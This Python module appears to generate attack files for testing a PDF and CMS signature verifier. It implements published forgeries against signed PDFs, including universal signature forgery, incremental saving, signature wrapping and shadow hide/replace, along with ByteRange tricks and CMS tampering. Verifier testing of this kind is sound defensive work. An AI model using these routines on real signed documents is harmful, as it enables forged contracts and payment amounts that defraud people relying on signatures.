"""Attack files for the verifier, each built here from a genuinely signed document.

PDF: universal signature forgery, the incremental saving attack and signature wrapping
(Mladenov et al., "1 Trillion Dollar Refund", CCS 2019); the shadow attacks hide, replace and
hide-and-replace (Rohlmann, Mladenov, Mainka, NDSS 2021); ByteRange tricks. CMS: a tampered
signature time stamp, a detached signature carrying eContent, a missing signer certificate,
and two legitimate forms other tools refuse: several SignerInfos and BER signed attributes.

Updates are written by hand (``raw_update``) where an attacker would: pyHanko's writer
produces only well-formed updates.
"""

from __future__ import annotations

import asyncio
import io
import re
from typing import Any

from asn1crypto import cms

# -- raw PDF editing -----------------------------------------------------------------------------------


def _startxref(data: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def raw_update(base: bytes, objects: dict[int, bytes], *, prefix: bytes = b"", xref: dict[int, int] | None = None,
               root: bytes = b"", size: int = 0, prev: int | None = None) -> bytes:
    """Append an incremental update with a classic xref table: ``objects`` are written after
    ``prefix``; ``xref`` maps further object numbers to offsets already in the file."""
    out = bytearray(base if base.endswith(b"\n") else base + b"\n")
    out += prefix
    offsets = dict(xref or {})
    for num, body in objects.items():
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    at = len(out)
    out += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % (n, offsets[n]) for n in sorted(offsets))
    trailer = b"/Size %d /Prev %d /Root %s" % (size or max(offsets) + 1, _startxref(base) if prev is None else prev,
                                                     root or _root_ref(base))
    out += b"trailer\n<< " + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % at
    return bytes(out)


def _root_ref(data: bytes) -> bytes:
    from pyhanko.pdf_utils.reader import PdfFileReader

    ref = PdfFileReader(io.BytesIO(data), strict=False).trailer.raw_get("/Root")
    return b"%d %d R" % (ref.idnum, ref.generation)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _serialise(value: Any) -> bytes:
    buf = io.BytesIO()
    value.write_to_stream(buf)
    return buf.getvalue()


def dict_with(d: Any, skip: tuple[str, ...] = (), extra: bytes = b"") -> bytes:
    items = [k.encode() + b" " + _serialise(d.raw_get(k)) for k in d if k not in skip]
    return b"<< " + b" ".join(items) + b" " + extra + b" >>"


class Layout:
    """Object numbers of a one-page document, to edit it by hand."""

    def __init__(self, pdf: bytes) -> None:
        from pyhanko.pdf_utils.reader import PdfFileReader

        r = PdfFileReader(io.BytesIO(pdf), strict=False)
        self.reader = r
        self.root_num = r.trailer.raw_get("/Root").idnum
        self.page_num = r.root["/Pages"].raw_get("/Kids").raw_get(0).idnum
        self.page = r.root["/Pages"]["/Kids"][0]
        self.contents = _serialise(self.page.raw_get("/Contents"))
        self.size = int(r.trailer["/Size"])

    def page_with(self, contents: bytes, extra: bytes = b"") -> bytes:
        return dict_with(self.page, ("/Contents", "/Annots"), b"/Contents " + contents + b" " + extra)


def sig_dict_span(signed: bytes) -> tuple[list[int], re.Match[bytes]]:
    m = re.search(rb"/ByteRange\s*\[([^\]]*)\]", signed)
    assert m is not None
    return [int(v) for v in m.group(1).split()], m


def overwrite(data: bytes, start: int, end: int, new: bytes) -> bytes:
    """Replace data[start:end] keeping every offset (pad with spaces)."""
    assert len(new) <= end - start, "replacement longer than the original"
    return data[:start] + new + b" " * (end - start - len(new)) + data[end:]


# -- PDF attacks ---------------------------------------------------------------------------------------

def usf_variants(signed: bytes) -> dict[str, bytes]:
    """Universal signature forgery: the signature dictionary's values made useless."""
    br, m = sig_dict_span(signed)
    a, b = br[1], br[2]
    return {
        "usf-byterange-null": overwrite(signed, m.start(), m.end(), b"/ByteRange null"),
        "usf-byterange-missing": overwrite(signed, m.start(), m.end(), b""),
        "usf-byterange-zero": overwrite(signed, m.start(), m.end(), b"/ByteRange [0 0 0 0]"),
        "usf-contents-empty": signed[:a] + b"<>" + b" " * (b - a - 2) + signed[b:],
        "usf-contents-null": signed[:a] + b"null" + b" " * (b - a - 4) + signed[b:],
        "usf-contents-zeros": signed[:a] + b"<" + b"0" * (b - a - 2) + b">" + signed[b:],
        "usf-subfilter-unknown": signed.replace(b"/SubFilter /ETSI.CAdES.detached",
                                                b"/SubFilter /x.kyso.none        ", 1),
    }


def isa_variants(signed: bytes) -> dict[str, bytes]:
    """Incremental saving attack: new content after the signed revision."""
    lay = Layout(signed)
    forged = stream(b"BT /F1 24 Tf 100 700 Td (FORGED 900.000.000 VND) Tj ET")
    n = lay.size
    body = b"%d 0 obj\n" % n + forged + b"\nendobj\n%d 0 obj\n" % lay.page_num + \
        lay.page_with(b"%d 0 R" % n) + b"\nendobj\n"
    return {
        # A well-formed update: pyHanko's difference analysis sees the page change.
        "isa-update-with-xref": raw_update(signed, {n: forged, lay.page_num: lay.page_with(b"%d 0 R" % n)}),
        # The objects alone, no xref and no trailer: viewers that repair the file show them.
        "isa-objects-without-xref": signed + body,
        # The same, ending with a copy of the signed revision's startxref and %%EOF.
        "isa-objects-with-old-trailer": signed + body + b"startxref\n%d\n%%%%EOF\n" % _startxref(signed),
    }


def swa(signed: bytes) -> bytes:
    """Signature wrapping: the second signed block moved to the end, forged objects placed in
    the gap after the signature value, the byte range rewritten to point at the moved block."""
    br, m = sig_dict_span(signed)
    _, a, b, c = br
    lay = Layout(signed)
    n = lay.size
    hexsig = signed[a:b].rstrip(b"0>") + b">"
    forged = b"\n%d 0 obj\n" % n + stream(b"BT /F1 24 Tf 100 700 Td (WRAPPED) Tj ET") + b"\nendobj\n"
    moved_at = a + len(hexsig) + len(forged)
    out = signed[:a] + hexsig + forged + signed[b:b + c]
    out = overwrite(out, m.start(), m.end(), b"/ByteRange [0 %d %d %d]" % (a, moved_at, c))
    # A new xref section makes the forged page the one shown; its /Prev follows the moved block.
    return raw_update(out, {lay.page_num: lay.page_with(b"%d 0 R" % n)}, xref={n: a + len(hexsig) + 1},
                      prev=_startxref(signed) + moved_at - b, root=_root_ref(signed), size=n + 1)


def byte_range_tricks(signed: bytes) -> dict[str, bytes]:
    br, m = sig_dict_span(signed)
    _, a, b, c = br
    out = {
        "br-overlap": overwrite(signed, m.start(), m.end(), b"/ByteRange [0 %d %d %d]" % (a, a - 10, c + b - a + 10)),
        "br-uncovered-tail": overwrite(signed, m.start(), m.end(), b"/ByteRange [0 %d %d %d]" % (a, b, c - 40)),
        "br-junk-after-eof": signed + b"\n%% unsigned\n(FORGED) Tj\n",
    }
    # A second signature dictionary whose range and contents sit inside the first's gap.
    lay = Layout(signed)
    f, s = lay.size, lay.size + 1
    inner_a = a + 100
    inner = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 %d %d %d] " \
            b"/Contents <%s> >>" % (inner_a, inner_a + 20, len(signed) - inner_a - 20, b"00" * 9)
    field = b"<< /FT /Sig /T (Inner) /V %d 0 R /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /P %d 0 R >>" % (
        s, lay.page_num)
    root = dict_with(lay.reader.root, ("/AcroForm",), b"/AcroForm << /Fields [%s %d 0 R] /SigFlags 3 >>" % (
        b" ".join(_serialise(x) for x in lay.reader.root["/AcroForm"].raw_get("/Fields")), f))
    out["br-second-signature-inside-first"] = raw_update(signed, {f: field, s: inner, lay.root_num: root})
    return out


def shadow_hide(signer: Any, pdf: bytes, sign: Any) -> bytes:
    """Before signing, the page draws an overlay object N; a second, empty definition of N
    sits unreferenced in the same update. After signing, an update made of an xref entry
    alone points N at the empty one: the overlay disappears, no object is added."""
    lay = Layout(pdf)
    n = lay.size
    cover = stream(b"q 1 1 1 rg 60 560 480 80 re f Q BT /F1 14 Tf 70 600 Td (Shown when signed) Tj ET")
    shadow = b"%d 0 obj\n" % n + stream(b"") + b"\nendobj\n"
    prepared = raw_update(pdf, {n: cover, lay.page_num: lay.page_with(b"[%s %d 0 R]" % (lay.contents, n))},
                          prefix=shadow)
    shadow_at = prepared.index(shadow, len(pdf))
    signed = sign(signer, prepared)
    return raw_update(signed, {}, xref={n: shadow_at}, size=n + 1, root=_root_ref(signed))


def _field_appearance(text: bytes) -> bytes:
    content = b"BT /Helv 14 Tf 2 10 Td (" + text + b") Tj ET"
    font = b"/Helv << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    return stream(content, b"/Type /XObject /Subtype /Form /BBox [0 0 300 30] /Resources << /Font << %s >> >> " % font)


def form_document(pdf: bytes, value: bytes) -> tuple[bytes, int, int]:
    """The letter with a text field 'amount' over the page, filled with ``value``."""
    lay = Layout(pdf)
    w, ap = lay.size, lay.size + 1
    widget = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (%s) /Rect [300 500 600 530] /P %d 0 R " \
             b"/AP << /N %d 0 R >> /DA (/Helv 14 Tf 0 g) >>" % (value, lay.page_num, ap)
    objs = {w: widget, ap: _field_appearance(b"So tien: " + value),
            lay.page_num: lay.page_with(lay.contents, b"/Annots [%d 0 R]" % w),
            lay.root_num: dict_with(lay.reader.root, ("/AcroForm",), b"/AcroForm << /Fields [%d 0 R] >>" % w)}
    return raw_update(pdf, objs), w, ap


def fill_field(signed: bytes, widget: int, new: bytes) -> bytes:
    """Change the field's value and appearance in an update: form filling, as pyHanko sees it."""
    from pyhanko.pdf_utils.generic import IndirectObject
    from pyhanko.pdf_utils.reader import PdfFileReader

    r = PdfFileReader(io.BytesIO(signed), strict=False)
    size = int(r.trailer["/Size"])
    obj = IndirectObject(widget, 0, r).get_object()
    body = dict_with(obj, ("/V", "/AP"), b"/V (%s) /AP << /N %d 0 R >>" % (new, size))
    return raw_update(signed, {widget: body, size: _field_appearance(b"So tien: " + new)})


def shadow_hide_and_replace(signer: Any, pdf: bytes, sign: Any) -> bytes:
    """A whole second document (catalog, pages, content) hidden in the signed file; after
    signing, an update of an xref entry and a trailer makes it the document shown."""
    lay = Layout(pdf)
    c, p, pg, t = lay.size, lay.size + 1, lay.size + 2, lay.size + 3
    font = b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    objs = {c: b"<< /Type /Catalog /Pages %d 0 R >>" % p, p: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % pg,
            pg: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R %s >>" % (p, t, font),
            t: stream(b"BT /F1 24 Tf 100 700 Td (SHADOW DOCUMENT) Tj ET")}
    prepared = raw_update(pdf, objs)
    signed = sign(signer, prepared)
    return raw_update(signed, {}, root=b"%d 0 R" % c, xref={c: prepared.index(b"%d 0 obj" % c, len(pdf))},
                      size=t + 1)


# -- CMS -----------------------------------------------------------------------------------------------

def merge_signer_infos(*der_signatures: bytes) -> bytes:
    """One SignedData with the SignerInfos, certificates and digest algorithms of all."""
    infos = [cms.ContentInfo.load(d) for d in der_signatures]
    first = infos[0]["content"]
    signed = cms.SignedData.load(first.untag().dump())
    certs: list[Any] = []
    algos: list[Any] = []
    signers: list[Any] = []
    for info in infos:
        sd = info["content"]
        certs.extend(c.chosen for c in sd["certificates"] if c.dump() not in [x.dump() for x in certs])
        algos.extend(a for a in sd["digest_algorithms"] if a.dump() not in [x.dump() for x in algos])
        signers.extend(sd["signer_infos"])
    signed["certificates"] = certs
    signed["digest_algorithms"] = algos
    signed["signer_infos"] = signers
    return bytes(cms.ContentInfo({"content_type": "signed_data", "content": signed}).dump())


def _tlv(tag: int, content: bytes) -> bytes:
    """Definite-length TLV with a non-minimal (long form) length: legal BER, not DER."""
    return bytes([tag, 0x82]) + len(content).to_bytes(2, "big") + content


def _indefinite(tag: int, *parts: bytes) -> bytes:
    return bytes([tag, 0x80]) + b"".join(parts) + b"\x00\x00"


def ber_signed_attrs(der_signature: bytes) -> bytes:
    """The same signature with its signed attributes (and everything around them) in BER:
    indefinite lengths, non-minimal lengths and the SET OF in reverse order. RFC 5652 5.4:
    the signature stays valid, being computed over the DER encoding."""
    info = cms.ContentInfo.load(der_signature)
    sd = info["content"]
    (si,) = sd["signer_infos"]
    attrs = list(si["signed_attrs"])
    ber_attrs = _indefinite(0xA0, *[_tlv(0x30, a.contents) for a in reversed(attrs)])
    si_parts = [si[k].dump() for k in ("version", "sid", "digest_algorithm")] + [ber_attrs] + \
        [si[k].dump() for k in ("signature_algorithm", "signature", "unsigned_attrs")]
    signer_info = _indefinite(0x30, *si_parts)
    sd_parts = [sd[k].dump() for k in ("version", "digest_algorithms", "encap_content_info", "certificates", "crls")]
    signed_data = _indefinite(0x30, *sd_parts, _indefinite(0x31, signer_info))
    return _indefinite(0x30, info["content_type"].dump(), _indefinite(0xA0, signed_data))


def without_certificates(der_signature: bytes) -> bytes:
    info = cms.ContentInfo.load(der_signature)
    sd = cms.SignedData.load(info["content"].untag().dump())
    sd["certificates"] = None
    return bytes(cms.ContentInfo({"content_type": "signed_data", "content": sd}).dump())


def tamper_timestamp(der_signature: bytes) -> bytes:
    """Flip a bit of the time-stamp token's own signature value."""
    info = cms.ContentInfo.load(der_signature)
    sd = cms.SignedData.load(info["content"].untag().dump())
    si = sd["signer_infos"][0]
    (attr,) = [a for a in si["unsigned_attrs"] if a["type"].native == "signature_time_stamp_token"]
    token = attr["values"][0]
    tsi = token["content"]["signer_infos"][0]
    value = bytearray(tsi["signature"].native)
    value[len(value) // 2] ^= 1
    tsi["signature"] = bytes(value)
    return bytes(cms.ContentInfo({"content_type": "signed_data", "content": sd}).dump(force=True))


def sign_cms(signer: Any, data: bytes, *, detached: bool = True, timestamper: Any = None) -> bytes:
    return bytes(asyncio.run(signer.async_sign_general_data(data, "sha256", detached=detached,
                                                              timestamper=timestamper)).dump())
